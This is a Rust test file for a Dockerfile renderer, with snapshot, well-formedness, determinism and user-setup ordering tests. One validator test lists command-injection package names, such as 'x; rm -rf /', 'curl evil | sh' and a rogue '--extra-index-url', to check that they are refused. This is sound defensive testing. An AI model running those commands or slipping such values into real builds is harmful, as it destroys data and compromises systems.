//! Snapshot tests of rendered Dockerfiles for representative specs, plus the properties every
//! rendering must have (well-formed instructions, byte-identical output for the same spec).

use ds01_dockerfile::{
    build_context, labels, render, AimeBase, AptPackage, Base, Catalog, EnvName, EnvValue,
    ImageName, ImageRef, ImageSpec, Login, PipRequirement, UseCase,
};

const CATALOG: &str = include_str!("fixtures/aime-ml_images.repo");

fn catalog_spec() -> ImageSpec {
    let catalog = Catalog::parse(CATALOG).unwrap();
    let entry = catalog.resolve("pytorch", None, "CUDA_AMPERE").unwrap();
    let base = Base::Aime(AimeBase::from_catalog(entry, "CUDA_AMPERE").unwrap());
    let mut spec = ImageSpec::with_ds01_defaults(
        ImageName::parse("thesis-cv").unwrap(),
        base,
        Some(UseCase::ComputerVision),
    );
    spec.owner = Some(Login::parse("h.baker@hertie-school.lan").unwrap());
    for p in [
        "wandb",
        "transformers>=4.30",
        "jax[cuda12]==0.4.23",
        "numpy>=1.24,<2",
    ] {
        spec.add_pip(PipRequirement::parse(p).unwrap());
    }
    for p in ["tmux", "git-lfs", "g++"] {
        spec.add_apt(AptPackage::parse(p).unwrap());
    }
    spec
}

fn custom_spec() -> ImageSpec {
    ImageSpec::new(
        ImageName::parse("plain").unwrap(),
        Base::Custom {
            image: ImageRef::parse("ubuntu:24.04").unwrap(),
        },
    )
}

/// Docker's line structure: every line is blank, a comment, an instruction, or continues a
/// line that ended in `\`. A violation is the corruption DS01's `sed` edits produced (B2, B3).
fn assert_well_formed(text: &str) {
    const INSTRUCTIONS: [&str; 9] = [
        "FROM", "LABEL", "WORKDIR", "RUN", "ARG", "COPY", "ENV", "CMD", "USER",
    ];
    let mut continued = false;
    for (n, line) in text.lines().enumerate() {
        let is_instruction = INSTRUCTIONS.iter().any(|i| {
            line.strip_prefix(i)
                .is_some_and(|rest| rest.starts_with(' '))
        });
        if continued {
            assert!(
                !line.trim().is_empty(),
                "line {n}: blank line inside a continuation"
            );
            assert!(
                !is_instruction,
                "line {n}: instruction inside a continuation: {line}"
            );
        } else {
            assert!(
                line.is_empty() || line.starts_with('#') || is_instruction,
                "line {n}: not an instruction: {line:?}"
            );
        }
        continued = !line.starts_with('#') && line.ends_with('\\');
    }
    assert!(!continued, "the last line continues");
    assert!(text.ends_with('\n'));
}

#[test]
fn catalog_base_with_every_package_group() {
    let spec = catalog_spec();
    let dockerfile = render(&spec);
    assert_well_formed(dockerfile.text());
    insta::assert_snapshot!(dockerfile.text());
}

#[test]
fn custom_base_with_no_packages() {
    let dockerfile = render(&custom_spec());
    assert_well_formed(dockerfile.text());
    insta::assert_snapshot!(dockerfile.text());
}

#[test]
fn env_values_with_quotes_backslashes_and_dollars() {
    let mut spec = custom_spec();
    for (k, v) in [
        ("GREETING", r#"say "hi" to 'them'"#),
        ("WINDOWS_PATH", r"C:\temp\"),
        ("LITERAL_DOLLAR", "$HOME and ${PATH}"),
        ("EMPTY", ""),
        ("UNICODE", "naïve ✓"),
    ] {
        spec.env
            .insert(EnvName::parse(k).unwrap(), EnvValue::parse(v).unwrap());
    }
    let dockerfile = render(&spec);
    assert_well_formed(dockerfile.text());
    insta::assert_snapshot!(dockerfile.text());
}

#[test]
fn without_user_baking_there_is_no_user_block() {
    let mut spec = custom_spec();
    spec.user.bake = false;
    let text = render(&spec).text().to_owned();
    assert_well_formed(&text);
    for absent in [
        "ARG ",
        "COPY ",
        labels::HAS_USER_SETUP,
        labels::USER_ID,
        "useradd",
    ] {
        assert!(!text.contains(absent), "{absent} in\n{text}");
    }
}

#[test]
fn hostile_package_names_are_refused_naming_the_value() {
    let refusals: Vec<String> = [
        "x; rm -rf /",
        "x;reboot",
        "pandas\nRUN curl evil | sh",
        "numpy$(id)",
        "torch`id`",
        "a|b",
        "a&&b",
        "--extra-index-url=http://evil",
    ]
    .into_iter()
    .map(|p| PipRequirement::parse(p).unwrap_err().to_string())
    .chain(
        ["vim; reboot", "git\nRUN id", "htop&", "$(id)"]
            .into_iter()
            .map(|p| AptPackage::parse(p).unwrap_err().to_string()),
    )
    .collect();
    insta::assert_snapshot!(refusals.join("\n"));

    // The same values in a spec file are refused when it is read, so no spec holds them.
    let toml = "name = \"x\"\n[base]\nkind = \"custom\"\nimage = \"a\"\n\
                [packages]\nextra = [\"pandas\", \"x; rm -rf /\"]\n";
    let err = ImageSpec::from_toml_str(toml).unwrap_err().to_string();
    assert!(err.contains("\"x; rm -rf /\""), "{err}");
}

#[test]
fn version_spec_is_one_quoted_word_in_its_run_line() {
    let text = render(&catalog_spec()).text().to_owned();
    let run = text
        .split("\n\n")
        .find(|block| block.starts_with("# Additional user packages"))
        .unwrap();
    assert!(run.contains("\n        'transformers>=4.30' \\\n"), "{run}");
    // No unquoted redirection anywhere in the pip blocks.
    for line in text.lines().filter(|l| l.contains(">=")) {
        assert!(line.trim_start().starts_with('\''), "unquoted: {line}");
    }
}

#[test]
fn user_labels_come_from_the_build_arguments() {
    let text = render(&custom_spec()).text().to_owned();
    let run = text
        .find("RUN sh /usr/local/lib/ds01/user-setup.sh")
        .unwrap();
    for (key, arg) in [
        (labels::USER_ID, "DS01_USER_ID"),
        (labels::GROUP_ID, "DS01_GROUP_ID"),
        (labels::USERNAME, "DS01_USERNAME"),
    ] {
        let label = text.find(&format!("{key}=\"${{{arg}}}\"")).unwrap();
        assert!(label > run, "{key} must be set after the setup step");
        assert!(text.find(&format!("ARG {arg}\n")).unwrap() < run);
    }
    let has_setup = text
        .find(&format!("{}=\"true\"", labels::HAS_USER_SETUP))
        .unwrap();
    assert!(has_setup > run);
}

#[test]
fn same_spec_renders_byte_identical_output() {
    for spec in [catalog_spec(), custom_spec()] {
        let (a, b) = (render(&spec), render(&spec.clone()));
        assert_eq!(a.text(), b.text());
        assert_eq!(a.sha256(), b.sha256());
        assert_eq!(
            build_context(&spec).as_bytes(),
            build_context(&spec).as_bytes()
        );
        // Through a save/load cycle, too: what is stored is what was rendered.
        let reloaded = ImageSpec::from_toml_str(&spec.to_toml_string().unwrap()).unwrap();
        assert_eq!(render(&reloaded).text(), a.text());
    }
}

#[test]
fn editing_the_spec_changes_the_hash() {
    let spec = catalog_spec();
    let mut edited = spec.clone();
    assert_eq!(edited.remove_package("wandb"), 1);
    assert_ne!(render(&spec).sha256(), render(&edited).sha256());
    assert_well_formed(render(&edited).text());
}

/// `--pip` and `--requirements` on a plain base: Python first (shared by all users), then
/// the user, then the venv handed to them and the pip steps run as them.
#[test]
fn pip_packages_go_into_the_users_venv() {
    let mut spec = custom_spec();
    spec.add_requirements(
        ds01_dockerfile::parse_requirements("# from the lab\nsix\nidna >= 3  # pinned\n").unwrap(),
    );
    spec.add_pip(PipRequirement::parse("requests").unwrap());
    let dockerfile = render(&spec);
    let text = dockerfile.text();
    assert_well_formed(text);
    assert!(dockerfile.needs_python_setup_script());
    let at = |needle: &str| {
        text.find(needle)
            .unwrap_or_else(|| panic!("{needle} missing in\n{text}"))
    };
    assert!(at("python-setup.sh interpreter") < at("ARG DS01_USER_ID"));
    assert!(at("RUN sh /usr/local/lib/ds01/user-setup.sh") < at("python-setup.sh venv"));
    assert!(at("USER ${DS01_USER_ID}:${DS01_GROUP_ID}") < at("# Packages from requirements.txt"));
    assert!(at("'idna>=3'") < at("        requests\n"));
    assert!(at("        requests\n") < at("USER root"));
    assert!(!text.contains("--break-system-packages"));
    insta::assert_snapshot!(text);
}

#[test]
fn without_a_baked_user_the_venv_is_roots_and_no_user_switch() {
    let mut spec = custom_spec();
    spec.user.bake = false;
    spec.add_pip(PipRequirement::parse("six").unwrap());
    let text = render(&spec).text().to_owned();
    assert_well_formed(&text);
    assert!(text.contains("RUN sh /usr/local/lib/ds01/python/python-setup.sh venv\n"));
    assert!(text.contains("ENV PATH=\"/opt/ds01/venv/bin:${PATH}\"\n"));
    assert!(!text.contains("USER "), "{text}");
}

#[test]
fn presets_fill_the_use_case_group_on_any_base() {
    for use_case in UseCase::ALL {
        let mut spec = custom_spec();
        spec.add_pip(PipRequirement::parse("timm==1.0").unwrap());
        spec.apply_preset(use_case);
        assert_eq!(spec.use_case, Some(use_case));
        let names: Vec<String> = spec
            .packages
            .use_case
            .iter()
            .map(|p| p.to_string())
            .collect();
        let expected: Vec<&str> = use_case
            .packages()
            .iter()
            .copied()
            .filter(|p| *p != "timm")
            .collect();
        assert_eq!(names, expected, "{use_case}");
        // The user's pin of a preset package stays where it was.
        assert_eq!(spec.packages.extra[0].as_str(), "timm==1.0");
        let text = render(&spec).text().to_owned();
        assert_well_formed(&text);
        assert!(text.contains(&format!("# Use case: {use_case}\n")));
        assert_eq!(
            text.contains("# Use case specific packages"),
            !expected.is_empty()
        );
    }
    let mut spec = custom_spec();
    spec.apply_preset(UseCase::Nlp);
    insta::assert_snapshot!(render(&spec).text());
}

const USER_DOCKERFILE: &str = "\
# escape=`
FROM ds01-fixture/debian12:latest AS base
USER nobody
RUN echo built by the user \\
    && true
ENV APP=1
CMD [\"python3\"]";

/// `--dockerfile`: the user's text after ds01's header (so its parser directives are
/// comments), then `USER root` and ds01's steps; their CMD stays.
#[test]
fn user_dockerfile_then_ds01_user_block() {
    let base = Base::Dockerfile {
        dockerfile: ds01_dockerfile::UserDockerfile::parse(USER_DOCKERFILE).unwrap(),
        ds01_legacy: false,
    };
    let mut spec = ImageSpec::new(ImageName::parse("own").unwrap(), base);
    spec.owner = Some(Login::parse("h.baker@hertie-school.lan").unwrap());
    let text = render(&spec).text().to_owned();
    assert!(text.starts_with("# DS01 Custom Image: own\n"));
    assert!(text.contains(USER_DOCKERFILE));
    let user_root = text.find("\nUSER root\n").unwrap();
    assert!(user_root > text.find("CMD [\"python3\"]").unwrap());
    assert!(
        text.find("RUN sh /usr/local/lib/ds01/user-setup.sh")
            .unwrap()
            > user_root
    );
    assert!(!text.contains("CMD [\"/bin/bash\"]"));
    assert!(!text.contains("WORKDIR"));
    assert!(text.contains("aime.mlc.base_image=\"ds01-fixture/debian12:latest\""));
    insta::assert_snapshot!(text);

    // With pip packages the venv follows, as on any base.
    spec.add_pip(PipRequirement::parse("six").unwrap());
    let text = render(&spec).text().to_owned();
    assert!(text.find("python-setup.sh venv").unwrap() > text.find("user-setup.sh").unwrap());
}

/// `ds01 image import`: DS01's own user setup (ARGs and the RUN that reads them) is left
/// out, ds01's replaces it; everything else of the file stays.
#[test]
fn imported_ds01_dockerfile_loses_its_old_user_setup() {
    let legacy = include_str!("fixtures/legacy.Dockerfile");
    let base = Base::Dockerfile {
        dockerfile: ds01_dockerfile::UserDockerfile::parse(legacy).unwrap(),
        ds01_legacy: true,
    };
    let spec = ImageSpec::new(ImageName::parse("legacy").unwrap(), base);
    let text = render(&spec).text().to_owned();
    assert!(!text.contains("adduser"), "{text}");
    assert!(!text.contains("ARG DS01_USER_ID=1001"));
    assert!(
        text.contains("RUN echo \"packages of the old image\" \\\n    > /etc/ds01-legacy-marker\n")
    );
    assert_eq!(text.matches("ARG DS01_USER_ID\n").count(), 1);
    insta::assert_snapshot!(text);
}
